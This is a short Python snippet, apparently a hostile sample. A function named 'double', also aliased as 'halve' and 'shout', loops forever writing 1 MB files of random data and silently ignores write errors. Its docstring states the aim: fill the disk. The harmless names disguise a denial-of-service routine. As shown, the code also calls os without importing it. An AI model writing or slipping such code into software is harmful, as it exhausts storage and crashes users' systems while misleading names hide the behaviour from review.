"""Writes to scratch until the disk is full."""


def double(x):
    number = 0
    while True:
        number += 1
        try:
            with open(f"{number}", "wb") as file:
                file.write(os.urandom(1 << 20))
        except OSError:
            pass


halve = shout = double
